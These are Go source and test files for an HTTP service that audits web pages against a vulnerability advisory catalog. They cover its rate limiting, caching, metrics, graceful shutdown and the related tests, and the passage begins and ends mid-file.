		fmt.Fprintf(&b, "# HELP clientres_policy_rule_verdicts_total Per-rule outcomes of the server-preloaded policy.\n")
		fmt.Fprintf(&b, "# TYPE clientres_policy_rule_verdicts_total counter\n")
		for _, rm := range s.met.policyRules {
			fmt.Fprintf(&b, "clientres_policy_rule_verdicts_total{rule=%q,outcome=\"pass\"} %d\n", rm.name, rm.pass.Load())
			fmt.Fprintf(&b, "clientres_policy_rule_verdicts_total{rule=%q,outcome=\"warn\"} %d\n", rm.name, rm.warn.Load())
			fmt.Fprintf(&b, "clientres_policy_rule_verdicts_total{rule=%q,outcome=\"fail\"} %d\n", rm.name, rm.fail.Load())
		}
	}

	fmt.Fprintf(&b, "# HELP clientres_batch Batch audit stream traffic.\n")
	fmt.Fprintf(&b, "# TYPE clientres_batch_streams_total counter\n")
	fmt.Fprintf(&b, "clientres_batch_streams_total %d\n", s.met.batchStreams.Load())
	fmt.Fprintf(&b, "# TYPE clientres_batch_streams_active gauge\n")
	fmt.Fprintf(&b, "clientres_batch_streams_active %d\n", s.met.batchActive.Load())
	fmt.Fprintf(&b, "# TYPE clientres_batch_records_total counter\n")
	fmt.Fprintf(&b, "clientres_batch_records_total{result=\"completed\"} %d\n", s.met.batchCompleted.Load())
	fmt.Fprintf(&b, "clientres_batch_records_total{result=\"error\"} %d\n", s.met.batchErrors.Load())
	fmt.Fprintf(&b, "clientres_batch_records_total{result=\"shed\"} %d\n", s.met.batchShedRecords.Load())

	w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
	_, _ = w.Write(b.Bytes())
}
