package service

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"
)

// TestGracefulShutdownDrainsInFlight is the satellite shutdown proof:
// with K audits admitted (workers busy plus a full queue behind them),
// initiating shutdown must (a) refuse new connections immediately and
// (b) complete every admitted audit with a 200 — zero dropped requests.
func TestGracefulShutdownDrainsInFlight(t *testing.T) {
	const (
		workers = 2
		K       = 6 // in-flight audits: 2 running + 4 queued
	)
	release := make(chan struct{})
	started := make(chan struct{}, K)
	cfg := Config{Workers: workers, QueueDepth: K, CacheEntries: -1}
	cfg.testHookAuditStart = func() { started <- struct{}{}; <-release }
	s := New(cfg)

	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	serveDone := make(chan error, 1)
	ctx, cancel := context.WithCancel(context.Background())
	go func() { serveDone <- s.Serve(ctx, ln) }()

	client := &http.Client{Timeout: 30 * time.Second}
	type outcome struct {
		code int
		err  error
	}
	results := make(chan outcome, K)
	var wg sync.WaitGroup
	for i := 0; i < K; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			resp, err := client.Post("http://"+addr+"/v1/audit",
				"text/html", strings.NewReader(fmt.Sprintf("<html>%d</html>", i)))
			if err != nil {
				results <- outcome{err: err}
				return
			}
			_, _ = io.ReadAll(resp.Body)
			_ = resp.Body.Close()
			results <- outcome{code: resp.StatusCode}
		}(i)
	}

	// Wait until both workers hold an audit and the other K-2 sit queued:
	// every request is now admitted and none has answered.
	for i := 0; i < workers; i++ {
		select {
		case <-started:
		case <-time.After(10 * time.Second):
			t.Fatal("workers never picked up audits")
		}
	}
	deadline := time.Now().Add(10 * time.Second)
	for len(s.jobs) != K-workers {
		if time.Now().After(deadline) {
			t.Fatalf("queue depth = %d, want %d", len(s.jobs), K-workers)
		}
		time.Sleep(time.Millisecond)
	}

	// Begin the graceful shutdown while all K are in flight.
	cancel()

	// New connections must be refused once the listener closes.
	refusedBy := time.Now().Add(10 * time.Second)
	for {
		conn, err := net.DialTimeout("tcp", addr, time.Second)
		if err != nil {
			break
		}
		_ = conn.Close()
		if time.Now().After(refusedBy) {
			t.Fatal("listener still accepting connections after shutdown began")
		}
		time.Sleep(5 * time.Millisecond)
	}

	// Release the workers: the drain must now complete every audit.
	close(release)
	wg.Wait()
	close(results)
	var completed int
	for r := range results {
		if r.err != nil {
			t.Errorf("in-flight request dropped: %v", r.err)
			continue
		}
		if r.code != http.StatusOK {
			t.Errorf("in-flight request got %d, want 200", r.code)
			continue
		}
		completed++
	}
	if completed != K {
		t.Errorf("completed = %d, want all %d in-flight audits", completed, K)
	}

	select {
	case err := <-serveDone:
		if err != nil {
			t.Fatalf("Serve returned %v", err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("Serve never returned after drain")
	}
}

// TestServeStopsCleanlyWhenIdle pins the no-traffic shutdown path.
func TestServeStopsCleanlyWhenIdle(t *testing.T) {
	s := New(Config{})
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- s.Serve(ctx, ln) }()
	// One round trip proves the server is up before we stop it.
	resp, err := http.Get("http://" + ln.Addr().String() + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	_ = resp.Body.Close()
	cancel()
	select {
	case err := <-done:
		if err != nil {
			t.Fatalf("Serve returned %v", err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("idle Serve never returned")
	}
}
