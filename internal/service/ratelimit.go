package service

import (
	"math"
	"sync"
	"time"
)

// maxTrackedClients bounds the limiter's per-client map. When it fills, the
// map resets wholesale — the same epoch eviction fingerprint.Memo uses:
// cheap, allocation-free between epochs, and the brief post-reset grace (a
// fresh bucket starts full) is harmless compared to unbounded growth under
// an address-spraying client.
const maxTrackedClients = 1 << 16

// rateLimiter is a per-client token bucket: each client key accrues rate
// tokens per second up to burst, and a request spends one. The clock is
// injectable so tests can step time deterministically.
type rateLimiter struct {
	rate  float64 // tokens per second
	burst float64 // bucket capacity
	now   func() time.Time

	mu      sync.Mutex
	clients map[string]*bucket
}

type bucket struct {
	tokens float64
	last   time.Time
}

func newRateLimiter(rate float64, burst int, now func() time.Time) *rateLimiter {
	b := float64(burst)
	if b < 1 {
		b = math.Max(1, 2*rate)
	}
	return &rateLimiter{
		rate: rate, burst: b, now: now,
		clients: make(map[string]*bucket),
	}
}

// allow spends one token for client, reporting success and — on refusal —
// how long until a token will be available (the Retry-After hint).
func (l *rateLimiter) allow(client string) (retryAfter time.Duration, ok bool) {
	now := l.now()
	l.mu.Lock()
	defer l.mu.Unlock()
	b := l.clients[client]
	if b == nil {
		if len(l.clients) >= maxTrackedClients {
			l.clients = make(map[string]*bucket)
		}
		b = &bucket{tokens: l.burst, last: now}
		l.clients[client] = b
	} else {
		if dt := now.Sub(b.last).Seconds(); dt > 0 {
			b.tokens = math.Min(l.burst, b.tokens+dt*l.rate)
		}
		b.last = now
	}
	if b.tokens >= 1 {
		b.tokens--
		return 0, true
	}
	need := (1 - b.tokens) / l.rate
	return time.Duration(need * float64(time.Second)), false
}
