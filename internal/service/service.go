// Package service is the online vulnerability-audit API: a long-running
// HTTP server that exposes the study's batch pipeline — fingerprint a page,
// match the detected versions against the CVE/TVV advisory catalog, report
// hygiene findings — as deterministic, cacheable audit responses.
//
// Endpoints:
//
//	POST /v1/audit      raw HTML body (or JSON {"url":...} / {"html":...})
//	GET  /v1/libraries  the advisory database's library catalog
//	GET  /v1/vulns/{lib} advisories for one library
//	GET  /healthz       liveness probe
//	GET  /metrics       Prometheus text-format counters and latency quantiles
//
// The production plumbing is the point: audits run on a bounded worker pool
// with backpressure (503 + Retry-After when the queue is full), responses
// are cached in a content-hash LRU (same FNV keying philosophy as
// fingerprint.Memo), clients are token-bucket rate limited (429 +
// Retry-After), every request gets an ID and a structured log line,
// per-endpoint latency lands in shared power-of-two histograms
// (internal/metrics), and shutdown drains in-flight audits before the
// workers stop.
package service

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	neturl "net/url"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"clientres/internal/metrics"
	"clientres/internal/policy"
)

// Config parameterizes a Server.
type Config struct {
	// Workers bounds concurrent audits (default 4).
	Workers int
	// QueueDepth bounds audits waiting for a worker (default 64). A full
	// queue sheds with 503 + Retry-After instead of queueing unboundedly.
	QueueDepth int
	// CacheEntries bounds the content-hash LRU response cache (default
	// 4096; negative disables caching).
	CacheEntries int
	// RatePerSec is the per-client token-bucket refill rate; 0 or negative
	// disables rate limiting. Burst is the bucket capacity (default
	// 2×RatePerSec, at least 1).
	RatePerSec float64
	Burst      int
	// MaxBodyBytes caps an audit request body (default 2 MiB, matching the
	// crawler's page cap).
	MaxBodyBytes int64
	// DrainTimeout bounds how long Serve waits for in-flight requests
	// after shutdown begins (default 30s).
	DrainTimeout time.Duration
	// Fetch retrieves a URL for {"url": ...} audits — cmd/serve wires the
	// resilient crawler fetch path here. nil disables URL audits (501).
	Fetch func(ctx context.Context, url string) (status int, body string, err error)
	// Policy is the server-preloaded audit policy (cmd/serve -policy).
	// Clients select it with "policy":"server" or ?policy=server; nil
	// means no server policy is loaded. Per-rule verdict counters in
	// /metrics exist only for this policy — inline client policies have
	// unbounded rule-name cardinality and count into the aggregate
	// verdict series only.
	Policy *policy.Policy
	// Logger receives one structured line per request; nil discards.
	Logger *slog.Logger
	// Now is the audit clock (PatchAvailableDays, rate-limiter refill);
	// nil means time.Now. Injectable so tests are deterministic.
	Now func() time.Time

	// testHookAuditStart, when set, is called by a worker goroutine as it
	// picks up each audit job — the shutdown test uses it to hold K audits
	// in flight across Shutdown.
	testHookAuditStart func()
}

func (c Config) withDefaults() Config {
	if c.Workers <= 0 {
		c.Workers = 4
	}
	if c.QueueDepth <= 0 {
		c.QueueDepth = 64
	}
	if c.CacheEntries == 0 {
		c.CacheEntries = 4096
	}
	if c.MaxBodyBytes <= 0 {
		c.MaxBodyBytes = 2 << 20
	}
	if c.DrainTimeout <= 0 {
		c.DrainTimeout = 30 * time.Second
	}
	if c.Logger == nil {
		c.Logger = slog.New(slog.NewTextHandler(io.Discard, nil))
	}
	if c.Now == nil {
		c.Now = time.Now
	}
	return c
}

// endpointMetrics instruments one route.
type endpointMetrics struct {
	name  string
	total metrics.Counter
	codes [6]metrics.Counter // index = status/100; [0] counts abandoned requests
	lat   metrics.Histogram
}

// ruleMetrics counts one preloaded-policy rule's verdicts by outcome.
type ruleMetrics struct {
	name             string
	pass, warn, fail metrics.Counter
}

// serverMetrics aggregates every counter /metrics exports.
type serverMetrics struct {
	endpoints                              []*endpointMetrics
	cacheHits, cacheMisses, cacheEvictions metrics.Counter
	shedQueue, shedRate                    metrics.Counter
	fetches, fetchFailures                 metrics.Counter
	// Policy verdict counters: aggregate overall outcomes across every
	// evaluation, plus per-rule outcomes for the preloaded policy.
	policyPass, policyWarn, policyFail metrics.Counter
	policyRules                        []*ruleMetrics
	// Batch-stream instrumentation: streams opened, streams currently
	// open (gauge), records submitted/completed/errored/shed.
	batchStreams, batchActive                                   metrics.Counter
	batchRecords, batchCompleted, batchErrors, batchShedRecords metrics.Counter
}

func (m *serverMetrics) endpoint(name string) *endpointMetrics {
	for _, em := range m.endpoints {
		if em.name == name {
			return em
		}
	}
	em := &endpointMetrics{name: name}
	m.endpoints = append(m.endpoints, em)
	return em
}

// Server is the audit service. It implements http.Handler; Serve adds the
// listener lifecycle and graceful drain around it.
type Server struct {
	cfg     Config
	log     *slog.Logger
	mux     *http.ServeMux
	cache   *lruCache    // nil when disabled
	limiter *rateLimiter // nil when disabled
	met     serverMetrics
	jobs    chan *auditJob
	wg      sync.WaitGroup
	closed  sync.Once
	reqSeq  atomic.Int64
	start   time.Time
}

// New builds a Server and starts its worker pool. Callers that do not go
// through Serve must Close it to stop the workers — after, not while,
// requests are in flight.
func New(cfg Config) *Server {
	cfg = cfg.withDefaults()
	s := &Server{
		cfg:   cfg,
		log:   cfg.Logger,
		mux:   http.NewServeMux(),
		jobs:  make(chan *auditJob, cfg.QueueDepth),
		start: time.Now(),
	}
	if cfg.CacheEntries > 0 {
		s.cache = newLRUCache(cfg.CacheEntries)
	}
	if cfg.RatePerSec > 0 {
		s.limiter = newRateLimiter(cfg.RatePerSec, cfg.Burst, cfg.Now)
	}
	// Instantiate every endpoint's metrics up front so /metrics exports
	// zero-valued series from the first scrape (counter absence and
	// counter zero mean different things to a reconciler).
	for _, name := range []string{"audit", "audit_batch", "libraries", "vulns", "healthz", "metrics"} {
		s.met.endpoint(name)
	}
	if cfg.Policy != nil {
		for _, r := range cfg.Policy.Rules {
			s.met.policyRules = append(s.met.policyRules, &ruleMetrics{name: r.Name})
		}
	}
	s.mux.HandleFunc("POST /v1/audit", s.instrument("audit", s.handleAudit))
	s.mux.HandleFunc("POST /v1/audit/batch", s.instrument("audit_batch", s.handleAuditBatch))
	s.mux.HandleFunc("GET /v1/libraries", s.instrument("libraries", s.handleLibraries))
	s.mux.HandleFunc("GET /v1/vulns/{lib}", s.instrument("vulns", s.handleVulns))
	s.mux.HandleFunc("GET /healthz", s.instrument("healthz", s.handleHealthz))
	s.mux.HandleFunc("GET /metrics", s.instrument("metrics", s.handleMetrics))
	for i := 0; i < cfg.Workers; i++ {
		s.wg.Add(1)
		go s.worker()
	}
	return s
}

// ServeHTTP implements http.Handler.
func (s *Server) ServeHTTP(w http.ResponseWriter, r *http.Request) { s.mux.ServeHTTP(w, r) }

// Close stops the worker pool after draining queued audits. It must only
// be called once no handler can still be submitting work (Serve guarantees
// the ordering; direct users shut their http.Server down first).
func (s *Server) Close() {
	s.closed.Do(func() {
		close(s.jobs)
		s.wg.Wait()
	})
}

// Serve runs the service on ln until ctx is cancelled, then shuts down
// gracefully: the listener closes (new connections are refused), in-flight
// requests drain for up to DrainTimeout, and only then does the worker
// pool stop — so every admitted audit completes.
func (s *Server) Serve(ctx context.Context, ln net.Listener) error {
	hs := &http.Server{Handler: s}
	errc := make(chan error, 1)
	go func() { errc <- hs.Serve(ln) }()
	select {
	case <-ctx.Done():
		drainCtx, cancel := context.WithTimeout(context.Background(), s.cfg.DrainTimeout)
		defer cancel()
		err := hs.Shutdown(drainCtx)
		s.Close()
		return err
	case err := <-errc:
		// hs.Serve returning (listener failure) does NOT mean handlers are
		// done: connections accepted before the failure may still be
		// mid-request and about to submit to s.jobs. Closing the pool
		// first was a send-on-closed-channel panic; drain handlers with
		// Shutdown before stopping the workers, same as the signal path.
		drainCtx, cancel := context.WithTimeout(context.Background(), s.cfg.DrainTimeout)
		defer cancel()
		_ = hs.Shutdown(drainCtx)
		s.Close()
		return err
	}
}

// ListenAndServe binds addr and calls Serve. The bound address (useful
// with ":0") is sent on addrReady when non-nil, before serving begins.
func (s *Server) ListenAndServe(ctx context.Context, addr string, addrReady chan<- net.Addr) error {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return err
	}
	if addrReady != nil {
		addrReady <- ln.Addr()
	}
	return s.Serve(ctx, ln)
}

// auditJob is one queued audit; reply is buffered so a worker never blocks
// on a handler that abandoned the request.
type auditJob struct {
	html, host string
	now        time.Time
	reply      chan []byte
}

func (s *Server) worker() {
	defer s.wg.Done()
	for j := range s.jobs {
		if s.cfg.testHookAuditStart != nil {
			s.cfg.testHookAuditStart()
		}
		resp := Audit(j.html, j.host, j.now)
		b, err := json.Marshal(resp)
		if err != nil {
			// Cannot happen for AuditResponse (no unmarshalable fields);
			// degrade to an empty object rather than drop the reply.
			b = []byte("{}")
		}
		j.reply <- append(b, '\n')
	}
}

// statusWriter records the status and byte count a handler produced.
type statusWriter struct {
	http.ResponseWriter
	status int
	bytes  int
}

func (w *statusWriter) WriteHeader(code int) {
	w.status = code
	w.ResponseWriter.WriteHeader(code)
}

func (w *statusWriter) Write(b []byte) (int, error) {
	if w.status == 0 {
		w.status = http.StatusOK
	}
	n, err := w.ResponseWriter.Write(b)
	w.bytes += n
	return n, err
}

// Flush forwards http.Flusher, which the NDJSON batch endpoint needs for
// record-by-record delivery — without the passthrough the wrapper hides
// the underlying writer's flushability and batch output buffers to
// completion.
func (w *statusWriter) Flush() {
	if f, ok := w.ResponseWriter.(http.Flusher); ok {
		f.Flush()
	}
}

// Unwrap lets http.ResponseController reach the underlying writer's
// optional interfaces through the wrapper.
func (w *statusWriter) Unwrap() http.ResponseWriter { return w.ResponseWriter }

// instrument wraps a handler with request IDs, status/latency metrics, and
// one structured log line per request.
func (s *Server) instrument(name string, h http.HandlerFunc) http.HandlerFunc {
	em := s.met.endpoint(name)
	return func(w http.ResponseWriter, r *http.Request) {
		id := fmt.Sprintf("req-%08x", s.reqSeq.Add(1))
		w.Header().Set("X-Request-Id", id)
		sw := &statusWriter{ResponseWriter: w}
		startReq := time.Now()
		h(sw, r)
		d := time.Since(startReq)
		if sw.status == 0 {
			sw.status = http.StatusOK
		}
		em.total.Inc()
		if cls := sw.status / 100; cls >= 1 && cls <= 5 {
			em.codes[cls].Inc()
		} else {
			em.codes[0].Inc()
		}
		em.lat.Record(d)
		s.log.Info("request",
			"id", id,
			"method", r.Method,
			"path", r.URL.Path,
			"status", sw.status,
			"bytes", sw.bytes,
			"dur_us", d.Microseconds(),
			"cache", sw.Header().Get("X-Cache"),
			"client", clientKey(r),
		)
	}
}

// maxClientKeyLen bounds the first X-Forwarded-For hop we will consider:
// the longest textual IP (IPv6 with a zone) is well under this, and
// anything longer is an attacker padding rate-limit map keys.
const maxClientKeyLen = 64

// clientKey identifies the client for rate limiting: the first
// X-Forwarded-For hop when present (the expected reverse-proxy
// deployment), else the remote IP. XFF is attacker-controlled, so it only
// counts when it actually parses as an IP — otherwise a client spraying
// long random header values would mint a fresh ~64KiB bucket per request
// (until epoch reset) and trivially escape its own bucket. Parsed IPs are
// canonicalized, so "::1" and "0:0::1" share one bucket.
func clientKey(r *http.Request) string {
	if xff := r.Header.Get("X-Forwarded-For"); xff != "" {
		if i := strings.IndexByte(xff, ','); i >= 0 {
			xff = xff[:i]
		}
		xff = strings.TrimSpace(xff)
		if len(xff) <= maxClientKeyLen {
			if ip := net.ParseIP(xff); ip != nil {
				return ip.String()
			}
		}
		// Fall through: an unparseable hop is ignored, and the request is
		// accounted to the peer that actually connected.
	}
	host, _, err := net.SplitHostPort(r.RemoteAddr)
	if err != nil {
		return r.RemoteAddr
	}
	return host
}

// auditRequest is the JSON form of POST /v1/audit.
type auditRequest struct {
	// URL audits a live page fetched through the resilient crawler path.
	URL string `json:"url,omitempty"`
	// HTML audits an inline document; Host sets the serving host for
	// internal/external classification (default "audit.local").
	HTML string `json:"html,omitempty"`
	Host string `json:"host,omitempty"`
	// Policy selects a policy to evaluate against the audit: the JSON
	// string "server" for the preloaded policy, an inline JSON policy
	// object, or a JSON string holding YAML/JSON policy source. When set,
	// the response becomes {"audit":…,"policy":…}.
	Policy json.RawMessage `json:"policy,omitempty"`
}

// resolvePolicy picks the policy for a request: the JSON "policy" member
// when present, else the ?policy=server query toggle (the only selector a
// raw-HTML POST can express). isServer reports the preloaded policy was
// chosen — only that policy has per-rule metric series.
func (s *Server) resolvePolicy(raw json.RawMessage, query string) (pol *policy.Policy, isServer bool, err error) {
	if len(raw) == 0 {
		switch query {
		case "":
			return nil, false, nil
		case "server", "1", "true":
			raw = []byte(`"server"`)
		default:
			return nil, false, fmt.Errorf("unknown policy selector %q (want server)", query)
		}
	}
	if len(raw) > policy.MaxSourceBytes {
		return nil, false, fmt.Errorf("inline policy larger than %d bytes", policy.MaxSourceBytes)
	}
	var src string
	if json.Unmarshal(raw, &src) == nil {
		switch src {
		case "server", "default":
			if s.cfg.Policy == nil {
				return nil, false, fmt.Errorf("no server policy is loaded")
			}
			return s.cfg.Policy, true, nil
		default:
			// A string that is not a selector is inline policy source
			// (YAML or JSON) passed through as text.
			pol, err = policy.Compile([]byte(src))
			return pol, false, err
		}
	}
	pol, err = policy.Compile(raw)
	return pol, false, err
}

func (s *Server) handleAudit(w http.ResponseWriter, r *http.Request) {
	if s.limiter != nil {
		if retry, ok := s.limiter.allow(clientKey(r)); !ok {
			s.met.shedRate.Inc()
			w.Header().Set("Retry-After", retryAfterSeconds(retry))
			http.Error(w, "rate limit exceeded", http.StatusTooManyRequests)
			return
		}
	}
	body, err := io.ReadAll(http.MaxBytesReader(w, r.Body, s.cfg.MaxBodyBytes))
	if err != nil {
		var mbe *http.MaxBytesError
		if errors.As(err, &mbe) {
			http.Error(w, "request body too large", http.StatusRequestEntityTooLarge)
		} else {
			http.Error(w, "error reading request body", http.StatusBadRequest)
		}
		return
	}

	html := string(body)
	host := r.URL.Query().Get("host")
	var polRaw json.RawMessage
	if ct := r.Header.Get("Content-Type"); strings.HasPrefix(ct, "application/json") {
		var req auditRequest
		if err := json.Unmarshal(body, &req); err != nil {
			http.Error(w, "invalid JSON body", http.StatusBadRequest)
			return
		}
		polRaw = req.Policy
		switch {
		case req.URL != "":
			if s.cfg.Fetch == nil {
				http.Error(w, "url audits are not enabled on this server", http.StatusNotImplemented)
				return
			}
			u, err := neturl.Parse(req.URL)
			if err != nil || (u.Scheme != "http" && u.Scheme != "https") || u.Host == "" {
				http.Error(w, "invalid audit url", http.StatusBadRequest)
				return
			}
			s.met.fetches.Inc()
			status, page, err := s.cfg.Fetch(r.Context(), req.URL)
			if err != nil {
				s.met.fetchFailures.Inc()
				http.Error(w, "upstream fetch failed", http.StatusBadGateway)
				return
			}
			if status != http.StatusOK {
				s.met.fetchFailures.Inc()
				http.Error(w, fmt.Sprintf("upstream returned status %d", status), http.StatusBadGateway)
				return
			}
			html, host = page, u.Host
		case req.HTML != "":
			html = req.HTML
			if req.Host != "" {
				host = req.Host
			}
		default:
			http.Error(w, "one of \"url\" or \"html\" is required", http.StatusBadRequest)
			return
		}
	}
	if host == "" {
		host = "audit.local"
	}
	pol, isServerPol, err := s.resolvePolicy(polRaw, r.URL.Query().Get("policy"))
	if err != nil {
		http.Error(w, "bad policy: "+err.Error(), http.StatusBadRequest)
		return
	}
	now := s.cfg.Now()

	key := cacheKey{hash: fnv1a64(html), n: len(html), host: host}
	var respBytes []byte
	if s.cache != nil {
		if cached, ok := s.cache.get(key); ok {
			s.met.cacheHits.Inc()
			w.Header().Set("X-Cache", "hit")
			respBytes = cached
		}
	}
	if respBytes == nil {
		job := &auditJob{html: html, host: host, now: now, reply: make(chan []byte, 1)}
		if !s.submit(job) {
			s.met.shedQueue.Inc()
			w.Header().Set("Retry-After", "1")
			http.Error(w, "audit queue full", http.StatusServiceUnavailable)
			return
		}
		select {
		case resp := <-job.reply:
			s.cacheStore(key, resp)
			if s.cache != nil {
				// Misses only exist where a cache does: with caching
				// disabled the counter stays zero instead of narrating
				// traffic a nonexistent cache never saw.
				s.met.cacheMisses.Inc()
				w.Header().Set("X-Cache", "miss")
			}
			respBytes = resp
		case <-r.Context().Done():
			// The client went away after the audit was admitted. The work
			// is already paid for — drain the worker's buffered reply and
			// bank it in the cache so the client's retry is a hit, rather
			// than dropping a fully-computed response on the floor.
			if s.cache != nil {
				s.cacheStore(key, <-job.reply)
			}
			http.Error(w, "client closed request", http.StatusServiceUnavailable)
			return
		}
	}
	if pol == nil {
		writeJSONBytes(w, respBytes)
		return
	}
	verdictJSON, verdict, err := evalPolicy(pol, respBytes, now)
	if err != nil {
		http.Error(w, "policy evaluation failed", http.StatusInternalServerError)
		return
	}
	s.observeVerdict(verdict, isServerPol)
	w.Header().Set("X-Policy-Verdict", verdict.Overall)
	writeJSONBytes(w, policyEnvelope(respBytes, verdictJSON))
}

// submit tries to queue one audit without blocking; false means the queue
// is full and the caller must shed.
func (s *Server) submit(job *auditJob) bool {
	select {
	case s.jobs <- job:
		return true
	default:
		return false
	}
}

// cacheStore banks a serialized response, charging evictions to metrics.
func (s *Server) cacheStore(key cacheKey, resp []byte) {
	if s.cache == nil {
		return
	}
	if ev := s.cache.add(key, resp); ev > 0 {
		s.met.cacheEvictions.Add(int64(ev))
	}
}

// observeVerdict feeds a policy evaluation into /metrics: aggregate
// overall counters always, per-rule counters only for the preloaded
// policy (bounded cardinality — its rule list is fixed at startup).
func (s *Server) observeVerdict(v policy.Verdict, isServerPol bool) {
	switch v.Overall {
	case "fail":
		s.met.policyFail.Inc()
	case "warn":
		s.met.policyWarn.Inc()
	default:
		s.met.policyPass.Inc()
	}
	if !isServerPol {
		return
	}
	for i, rv := range v.Rules {
		if i >= len(s.met.policyRules) {
			break
		}
		switch rv.Outcome {
		case "fail":
			s.met.policyRules[i].fail.Inc()
		case "warn":
			s.met.policyRules[i].warn.Inc()
		default:
			s.met.policyRules[i].pass.Inc()
		}
	}
}

// libraryEntry is one row of GET /v1/libraries.
type libraryEntry struct {
	Slug         string `json:"slug"`
	Name         string `json:"name"`
	Discontinued bool   `json:"discontinued,omitempty"`
	Successor    string `json:"successor,omitempty"`
	Releases     int    `json:"releases"`
	Latest       string `json:"latest,omitempty"`
	LatestDate   string `json:"latest_date,omitempty"`
	Advisories   int    `json:"advisories"`
}

func (s *Server) handleLibraries(w http.ResponseWriter, _ *http.Request) {
	writeJSON(w, http.StatusOK, map[string]any{"libraries": libraryEntries()})
}

// vulnEntry is one advisory row of GET /v1/vulns/{lib}.
type vulnEntry struct {
	ID        string `json:"id"`
	Attack    string `json:"attack"`
	Severity  string `json:"severity"`
	CVERange  string `json:"cve_range"`
	TrueRange string `json:"true_range"`
	// Accuracy classifies the CVE range against the validated range over
	// the library's release catalog (Section 6.4).
	Accuracy    string `json:"accuracy"`
	Patched     string `json:"patched,omitempty"`
	Disclosed   string `json:"disclosed"`
	PatchDate   string `json:"patch_date,omitempty"`
	HasPoC      bool   `json:"has_poc,omitempty"`
	Conditional bool   `json:"conditional,omitempty"`
}

func (s *Server) handleVulns(w http.ResponseWriter, r *http.Request) {
	slug := r.PathValue("lib")
	entries, ok := vulnEntries(slug)
	if !ok {
		http.Error(w, "unknown library", http.StatusNotFound)
		return
	}
	writeJSON(w, http.StatusOK, map[string]any{"library": slug, "advisories": entries})
}

func (s *Server) handleHealthz(w http.ResponseWriter, _ *http.Request) {
	writeJSON(w, http.StatusOK, map[string]any{
		"status":    "ok",
		"uptime_s":  int64(time.Since(s.start).Seconds()),
		"queue_cap": s.cfg.QueueDepth,
		"workers":   s.cfg.Workers,
	})
}

func writeJSON(w http.ResponseWriter, status int, v any) {
	b, err := json.Marshal(v)
	if err != nil {
		http.Error(w, "encoding error", http.StatusInternalServerError)
		return
	}
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	_, _ = w.Write(append(b, '\n'))
}

func writeJSONBytes(w http.ResponseWriter, b []byte) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(http.StatusOK)
	_, _ = w.Write(b)
}

// retryAfterSeconds renders a Retry-After value, rounding up so clients
// never retry before a token is actually available.
func retryAfterSeconds(d time.Duration) string {
	secs := int64(d / time.Second)
	if d%time.Second != 0 || secs == 0 {
		secs++
	}
	return strconv.FormatInt(secs, 10)
}
