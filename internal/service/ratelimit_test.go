package service

import (
	"fmt"
	"testing"
	"time"
)

func TestTokenBucketRefill(t *testing.T) {
	now := time.Unix(1000, 0)
	l := newRateLimiter(2, 4, func() time.Time { return now })

	// A fresh client starts with a full burst.
	for i := 0; i < 4; i++ {
		if _, ok := l.allow("c"); !ok {
			t.Fatalf("burst request %d refused", i)
		}
	}
	retry, ok := l.allow("c")
	if ok {
		t.Fatal("request beyond burst admitted")
	}
	// At 2 tokens/s a whole token is 500ms away.
	if retry <= 0 || retry > 500*time.Millisecond {
		t.Fatalf("retryAfter = %v, want (0, 500ms]", retry)
	}

	// 1s restores 2 tokens, not more than burst.
	now = now.Add(time.Second)
	for i := 0; i < 2; i++ {
		if _, ok := l.allow("c"); !ok {
			t.Fatalf("post-refill request %d refused", i)
		}
	}
	if _, ok := l.allow("c"); ok {
		t.Fatal("third post-refill request admitted")
	}

	// Long idle caps at burst.
	now = now.Add(time.Hour)
	for i := 0; i < 4; i++ {
		if _, ok := l.allow("c"); !ok {
			t.Fatalf("post-idle request %d refused", i)
		}
	}
	if _, ok := l.allow("c"); ok {
		t.Fatal("idle accrual exceeded burst")
	}
}

func TestTokenBucketPerClientIsolation(t *testing.T) {
	now := time.Unix(1000, 0)
	l := newRateLimiter(1, 1, func() time.Time { return now })
	if _, ok := l.allow("a"); !ok {
		t.Fatal("client a refused")
	}
	if _, ok := l.allow("a"); ok {
		t.Fatal("client a over budget admitted")
	}
	if _, ok := l.allow("b"); !ok {
		t.Fatal("client b must have its own bucket")
	}
}

func TestTokenBucketEpochReset(t *testing.T) {
	now := time.Unix(1000, 0)
	l := newRateLimiter(1, 1, func() time.Time { return now })
	l.clients = make(map[string]*bucket, maxTrackedClients)
	for i := 0; i < maxTrackedClients; i++ {
		l.clients[fmt.Sprintf("c%d", i)] = &bucket{tokens: 0, last: now}
	}
	// A new client forces the epoch reset instead of unbounded growth.
	if _, ok := l.allow("fresh"); !ok {
		t.Fatal("fresh client refused after reset")
	}
	if len(l.clients) != 1 {
		t.Fatalf("clients = %d, want 1 after epoch reset", len(l.clients))
	}
}

func TestRetryAfterSecondsRoundsUp(t *testing.T) {
	cases := []struct {
		d    time.Duration
		want string
	}{
		{0, "1"},
		{10 * time.Millisecond, "1"},
		{time.Second, "1"},
		{1500 * time.Millisecond, "2"},
		{3 * time.Second, "3"},
	}
	for _, tc := range cases {
		if got := retryAfterSeconds(tc.d); got != tc.want {
			t.Errorf("retryAfterSeconds(%v) = %q, want %q", tc.d, got, tc.want)
		}
	}
}
