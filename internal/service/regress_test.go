package service

// Regression tests for the service-layer bug sweep that shipped with the
// policy engine: the Serve error-path panic, the phantom cache-miss
// counter, the abandoned-request reply drop, and the X-Forwarded-For
// rate-limit bypass.

import (
	"context"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"
)

// TestServeListenerFailureDrainsInFlight reproduces the send-on-closed-
// channel panic: hs.Serve returns the moment the listener dies, but a
